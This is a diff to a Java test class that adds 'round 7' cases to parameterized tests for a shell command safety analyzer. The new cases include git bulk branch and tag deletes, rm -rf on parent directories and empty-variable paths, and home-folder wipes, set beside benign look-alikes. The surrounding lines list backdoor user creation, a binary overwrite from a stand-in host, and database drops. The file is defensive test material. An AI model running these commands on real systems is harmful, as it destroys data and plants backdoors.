@@ -102,7 +102,9 @@ class UnseenCommandsTest {
         "psql -c \"DELETE FROM users WHERE email LIKE '%'\"", "echo \"DROP DATABASE prod;\" > drop.sql && mysql < drop.sql",
         "duckdb prod.db \"DROP TABLE events\"", "bq query --nouse_legacy_sql 'DELETE FROM ds.events WHERE true'",
         "snowsql -q \"DROP DATABASE analytics\"", "cockroach sql -e \"DROP DATABASE bank CASCADE\"",
-        "mysql -e \"SET FOREIGN_KEY_CHECKS=0; DROP TABLE orders;\""})
+        "mysql -e \"SET FOREIGN_KEY_CHECKS=0; DROP TABLE orders;\"",
+        // round 7
+        "git push origin --delete $(git branch -r | sed 's/origin\\///')", "git push origin $(git tag -l) --delete"})
     void clearDestructionIsDenied(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertEquals("deny", assessment.verdict(), () -> command + " -> " + assessment);
@@ -147,7 +149,11 @@ class UnseenCommandsTest {
         "mount -o remount,ro /", "umount -l /", "fsck -y /dev/sda1", "tune2fs -O ^has_journal /dev/sda1", "lvreduce -L 1G /dev/vg/root",
         "ip link set eth0 down", "ifconfig eth0 down", "ip route flush all", "nmcli networking off", "wget -O /usr/bin/ls http://x.example/ls",
         "echo 'root:x' | chpasswd", "usermod -aG sudo attacker", "useradd -o -u 0 backdoor", "rm -rf /data", "rm -rf /mnt/backup/*",
-        "rm -rf /root/.ssh", "docker ps -aq | grep -v keep | xargs docker rm -f", "reg delete HKLM\\SYSTEM /f"})
+        "rm -rf /root/.ssh", "docker ps -aq | grep -v keep | xargs docker rm -f", "reg delete HKLM\\SYSTEM /f",
+        // round 7: outside the project, empty variables (rm -rf "$STEAMROOT/"*), home folders, git bulk deletes
+        "rm -rf ..", "rm -rf ../..", "rm -rf ../*", "rm -rf \"$STEAMROOT/\"*", "rm -rf $DIR/", "rm -rf \"${DIR}\"/*",
+        "find ~/Documents -delete", "rsync -a --delete ./empty/ ~/Documents/", "git restore --source=HEAD --staged --worktree .",
+        "git tag -l | xargs git tag -d"})
     void riskyCommandsAreBlocked(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertTrue(assessment.blocked(), () -> command + " -> " + assessment);
@@ -228,7 +234,9 @@ class UnseenCommandsTest {
         "reg query HKLM\\SYSTEM", "powershell -c \"Remove-Item -Recurse -Force .\\build\"", "pwsh -c Get-Process",
         "psql -c \"DELETE FROM users WHERE deleted_at IS NOT NULL\"", "psql -c \"DELETE FROM jobs WHERE priority > 0\"",
         "psql -c \"DELETE FROM users WHERE email LIKE '%@test.com'\"", "psql -c \"SELECT * FROM users WHERE name = 'DROP TABLE users'\"",
-        "psql -c \"INSERT INTO log VALUES ('DELETE FROM users')\"", "mysql app < backup.sql", "sqlite3 app.db \".tables\""})
+        "psql -c \"INSERT INTO log VALUES ('DELETE FROM users')\"", "mysql app < backup.sql", "sqlite3 app.db \".tables\"",
+        "rm -rf ../build", "rm -rf \"$DIR\"", "DIR=./out; rm -rf \"$DIR\"/*", "find ~/.cache -delete", "git restore --worktree src/app.py",
+        "git tag -d v1.0.0-rc1", "rsync -a ./dotfiles/.config/ ~/.config/"})
     void benignLookAlikesAreAllowed(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertEquals("allow", assessment.verdict(), () -> command + " -> " + assessment);
